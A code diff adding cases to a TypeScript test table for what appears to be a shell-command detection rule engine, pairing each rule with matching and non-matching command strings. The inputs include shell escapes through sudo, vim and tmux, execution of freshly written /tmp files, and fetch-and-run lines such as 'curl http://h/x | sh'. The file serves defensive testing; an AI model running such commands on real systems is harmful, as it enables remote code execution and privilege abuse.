@@ -43,6 +43,27 @@ const CASES: readonly Case[] = [
   [{ program: ["sh"], args: "-c", not_wrapped_by: ["find"] }, ["sh -c id"], [
     "find . -exec sh -c id \\;",
   ]],
+  [{ not_program: ["cat", "ls"], args: "/bin/sh$" }, ["env -i x /bin/sh", "cat x; x /bin/sh"], [
+    "ls -l /bin/sh",
+    "cat /bin/sh",
+  ]],
+  [{ program: ["sh"], wrapped: true }, ["sudo sh", "tmux /bin/sh", "vim -c ':!sh'"], [
+    "sh",
+    "echo '!sh'",
+  ]],
+  [{ program: ["rm"], wrapped: false }, ["rm x"], ["sudo rm x"]],
+  [{ path: "/", runs_empty: false }, ["/tmp/x", "echo id > /tmp/x; /tmp/x"], [
+    ">/tmp/x && chmod 777 /tmp/x && /tmp/x",
+    "busybox echo > /tmp/x; /tmp/x",
+  ]],
+  [{ program: ["sh", "source"], runs_empty: true }, [">/a/b && sh /a/b", ">b; source b"], [
+    "sh /a/b",
+    "echo id > b; sh b",
+  ]],
+  [{ program: ["cat"], own_file: true }, ["echo x > /dev/.a; cat /dev/.a"], [
+    "echo x > /dev/.a; cat /dev/.b",
+    "cat /dev/.a",
+  ]],
   [{ runs_fetched: true }, ["wget http://h/x; sh x", "curl http://h/x | sh"], ["sh x; wget x"]],
   [
     { program: ["wget"], obfuscated: true },
